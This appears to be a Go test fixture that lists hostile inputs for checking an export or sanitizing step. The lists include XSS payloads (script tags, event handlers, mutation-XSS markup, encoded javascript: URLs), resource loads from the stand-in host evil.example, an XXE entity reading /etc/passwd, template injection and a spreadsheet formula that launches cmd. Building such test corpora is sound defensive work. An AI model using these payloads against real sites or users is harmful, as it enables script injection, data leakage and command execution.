package export_test

import "slices"

// hostilePayloads try to run or to load something, or to break out of where
// they are written. All of them call alert or ask evil.example for something,
// so that a browser tells whether one got through.
func hostilePayloads() []string {
	return slices.Concat(hostileMarkup(), hostileSpellings(), hostileLoads())
}

const (
	imgRuns      = `<img src=https://evil.example/i onerror=alert(1)>`
	scriptBase64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" // <script>alert(1)</script> in base64
)

// hostileMarkup is elements and handlers that run.
func hostileMarkup() []string {
	return []string{
		// Script.
		`<script>alert(1)</script>`,
		`</script><script>alert(1)</script>`,
		`<ScRiPt src=//evil.example/s.js></sCrIpT>`,
		"<script\x0c>alert(1)</script\t\n bar>",
		`<<script>script>alert(1)<</script>/script>`,
		`<script type=module>import "https://evil.example/m.js"</script>`,
		`<script><!--<script></script>--></script>` + imgRuns,
		`<!--<script>-->alert(1)</script>`,
		// Out of attributes, elements and comments.
		`"><script>alert(1)</script>`, `'><script>alert(1)</script>`, "`><script>alert(1)</script>",
		`" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="`, `' onmouseover='alert(1)' tabindex=1 onfocus='alert(1)' x='`,
		` onfocus=alert(1) autofocus `, `x onerror=alert(1) y`,
		`</title></head><body onload=alert(1)>`, `</style>` + imgRuns, `</textarea>` + imgRuns, `</option></select>` + imgRuns,
		`--><script>alert(1)</script><!--`, `--!>` + imgRuns + `<!--`, `<!-->` + imgRuns + `-->`, `<!--->` + imgRuns,
		`</p></li></ul></div></section></article></main></body></html>` + imgRuns,
		// Handlers.
		imgRuns, `<img/src/onerror=alert(1)>`, `<svg/onload=alert(1)>`, `<body onpageshow=alert(1)>`,
		`<input onfocus=alert(1) autofocus>`, `<details open ontoggle=alert(1)><summary>x</summary></details>`,
		`<p style="animation:x 1s" onanimationstart=alert(1)>x</p><style>@keyframes x{}</style>`,
		`<a href=https://example.org onmouseenter=alert(1)>x</a>`, `<video onerror=alert(1)><source src=x></video>`,
		`<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>`,
		`<b oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>x</b>`,
		// SVG and MathML.
		`<svg><script>alert(1)</script></svg>`, `<svg><script href=https://evil.example/s.js /></svg>`,
		`<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>`,
		`<svg><use href="data:image/svg+xml;base64,` + scriptBase64 + `#x" /></svg>`,
		`<svg><image href=https://evil.example/i /></svg>`, `<svg><foreignObject>` + imgRuns + `</foreignObject></svg>`,
		`<svg><set attributeName=onmouseover to=alert(1)>x</svg>`,
		`<math href=javascript:alert(1)>x</math>`, `<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>`,
		// Markup that changes its meaning when it is parsed a second time.
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=https://evil.example/i onerror=alert(1)&gt;">`,
		`<svg></p><style><a id="</style><img src=https://evil.example/i onerror=alert(1)>">`,
		`<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>` + imgRuns + `">`,
		`<noscript><p title="</noscript>` + imgRuns + `">`, `<math><annotation-xml encoding="text/html"><style>` + imgRuns + `</style></annotation-xml></math>`,
		`<select><template><style><!--</style><a rel="--></style></template></select>` + imgRuns + `">`,
		`<table><td><svg><desc><td></desc><style><b title="</style>` + imgRuns + `">`,
		`<xmp><b title="</xmp>` + imgRuns + `">`, `<iframe><b title="</iframe>` + imgRuns + `">`, `<plaintext>` + imgRuns,
	}
}

// hostileSpellings is what becomes markup or a URL that runs when it is decoded.
func hostileSpellings() []string {
	return []string{
		// Entities and encodings.
		`&lt;script&gt;alert(1)&lt;/script&gt;`, `&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;`,
		`&#60;img src=x onerror=alert(1)&#62;`, `&#x3c;img src=x onerror=alert(1)&#x3e;`, `&#0060img src=x onerror=alert(1)>`,
		`&LT;script&GT;alert(1)`, `%3Cscript%3Ealert(1)%3C/script%3E`, `\u003cscript\u003ealert(1)\u003c/script\u003e`,
		`\x3cscript\x3ealert(1)`, "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
		"<scr\u0000ipt>alert(1)</scr\u0000ipt>", "<\u200bscript>alert(1)</\u200bscript>", "\u02bcscript\u02baalert(1)", "<\u017fcript>alert(1)</\u017fcript>",
		"\xc0\xbcscript\xc0\xbealert(1)", "\x1b$B<script>alert(1)", "\u202e>)1(trela=rorreno gmi<",
		// Where URLs lead, in Markdown and in HTML.
		`[x](javascript:alert(1))`, `[x](JavaScript&colon;alert(1))`, "[x](java\tscript:alert(1))", `[x](&#x6A&#x61vascript:alert(1))`,
		`[x](javascript&#00058;alert(1))`, "[x](\x01javascript:alert(1))", `[x](\6aavascript:alert(1))`, `[x](data:text/html;base64,` + scriptBase64 + `)`,
		`[x](vbscript:msgbox)`, `[x](livescript:alert(1))`, `[x](blob:https://evil.example/1)`, `[x](filesystem:https://evil.example/1)`,
		`[x](//evil.example)`, `[x](https:evil.example)`, `[x](https://a@evil.example)`, `[x][1]` + "\n\n[1]: javascript:alert(1)",
		`<javascript:alert(1)>`, `![x](https://evil.example/i)`, `![x](javascript:alert(1))`, `[![x](https://evil.example/i)](javascript:alert(1))`,
		`<a href=" &#14; javascript:alert(1)">x</a>`, "<a href='jav&#x0D;ascript&#x3A;alert(1)'>x</a>", `<a href="javas&Tab;cript&colon;alert&lpar;1&rpar;">x</a>`,
		`<a href="https://example.org" ping="https://evil.example/p" target=_blank download>x</a>`, `<a href=data:text/html,<script>alert(1)</script>>x</a>`,
		`<button formaction=javascript:alert(1) form=f>x</button><form id=f></form>`, `<area href=javascript:alert(1) shape=default>`,
	}
}

// hostileLoads is what loads or leads elsewhere, and what is special in one of
// the formats.
func hostileLoads() []string {
	return []string{
		// CSS.
		`<style>*{background:url(https://evil.example/c)}</style>`, `<p style="background:url(https://evil.example/c)">x</p>`,
		`<link rel=stylesheet href=https://evil.example/c>`, `</style><style>@import "https://evil.example/c";`, `<p style="x:expression(alert(1));behavior:url(x)">x</p>`,
		`;}*{background:url(https://evil.example/c)}`, `#fff;background:url(https://evil.example/c)`,
		// What loads, leads elsewhere or overlays the page by itself.
		`<meta http-equiv=refresh content="0;url=https://evil.example/">`, `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
		`<base href=https://evil.example/>`, `<iframe src=javascript:alert(1)></iframe>`, `<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>`,
		`<object data="data:text/html;base64,` + scriptBase64 + `"></object>`, `<embed src=https://evil.example/e>`, `<portal src=https://evil.example/>`,
		`<form action=https://evil.example/ onsubmit=alert(1)><input name=q autofocus><button>x</button></form>`,
		`<img srcset="https://evil.example/1 1x, https://evil.example/2 2x">`, `<picture><source srcset=https://evil.example/s>` + imgRuns + `</picture>`,
		`<video poster=https://evil.example/p autoplay><track src=https://evil.example/t></video>`, `<audio src=https://evil.example/a autoplay></audio>`,
		`<link rel=prefetch href=https://evil.example/f><link rel=dns-prefetch href=//evil.example>`, `<table background=https://evil.example/b><tr><td background=https://evil.example/b>x`,
		`<frameset onload=alert(1)><frame src=https://evil.example/>`, `<marquee loop=1 onfinish=alert(1)>x</marquee>`, `<p id=sessions name=top>x</p>`,
		`<script type="application/ld+json">{"@id":"https://evil.example/"}</script>`, `<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/"]}]}</script>`,
		// What is special in a format.
		"```\"><script>alert(1)</script>\nx\n```", "```html onclick=alert(1)\nx\n```", "# x {#y onclick=\"alert(1)\"}", `[x](https://example.org "y" onclick="alert(1)")`,
		"| a |\n| - |\n| " + imgRuns + " |", "[^1]\n\n[^1]: " + imgRuns, "x\n: " + imgRuns, "- " + imgRuns, "    " + imgRuns, "> " + imgRuns, "[x]: https://example.org '\"onclick=alert(1)'\n\n[x]",
		`]]><script>alert(1)</script><![CDATA[`, `<![CDATA[` + imgRuns + `]]>`, `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
		`<?xml-stylesheet href="https://evil.example/x.xsl"?>`, `<x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></x>`,
		"END:VEVENT\nBEGIN:VEVENT\nATTACH:https://evil.example/a", `\nATTENDEE;CUTYPE="X:mailto:a@evil.example`, `:;,\"^n^'`,
		`"}],"url":"https://evil.example/","x":[{"y":"`, `\"},\"evil\":{\"a\":\"`, "\u2028alert(1)\u2029",
		`=HYPERLINK("https://evil.example/","x")`, `@SUM(1)*cmd|' /C calc'!A0`, `+1-1`, "-1+1", "\t=1+1", `",=1+1,"`, "x\n=1+1", `;=1+1;`,
		`{{constructor.constructor("alert(1)")()}}`, `{{.Post}}{{template "script"}}`, `{% raw %}{% include x %}`, `{{< script >}}alert(1){{< /script >}}`, `${alert(1)}`, `<%= 1 %>`,
		"---\nlayout: evil\n---\n", "+++\nx = 1\n+++", "<!--more-->", `# evil`, "evil\n====", `* * *`, `1. x`, `\`, `[`, `&`, `<`, `>`, `"`,
	}
}

// hostileAddresses are URLs that no post may hold.
func hostileAddresses() []string {
	return []string{
		`javascript:alert(1)`, `JaVaScRiPt:alert(1)`, ` javascript:alert(1)`, "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)",
		"\u00a0javascript:alert(1)", `javascript://example.org/%0aalert(1)`, `javascript&colon;alert(1)`, `&#106;avascript:alert(1)`, `vbscript:msgbox(1)`,
		`data:text/html,<script>alert(1)</script>`, `data:image/svg+xml,<svg/onload=alert(1)>`, `blob:https://example.org/1`, `file:///etc/passwd`,
		`view-source:https://example.org/`, `feed:javascript:alert(1)`, `//evil.example/`, `\\evil.example\x`, `/relative`, `?q`, `#f`, `https:`, `https:evil.example`,
		`https://`, `https:///x`, `https://:80/`, `https://user@evil.example/`, `https://example.org:secret@evil.example/`, `https://example.org\@evil.example/`,
		`https://example.org/"onmouseover="alert(1)`, `https://example.org/><script>alert(1)</script>`, "https://example.org/\r\nX: y", "https://example.org/ onclick=alert(1)",
		"https://example.org/`", "https://example.org/\u202egpj.exe", "https://example.org/\x00", "https://example.org/\xff", `https://[::1`, `https://example.org:port/`,
		`mailto:`, `mailto:<script>alert(1)</script>`, `mailto:a@b"onclick=alert(1)`, `tel:1`, `ftp://example.org/`, `about:blank`, `chrome://settings`, `urn:x:y`,
	}
}
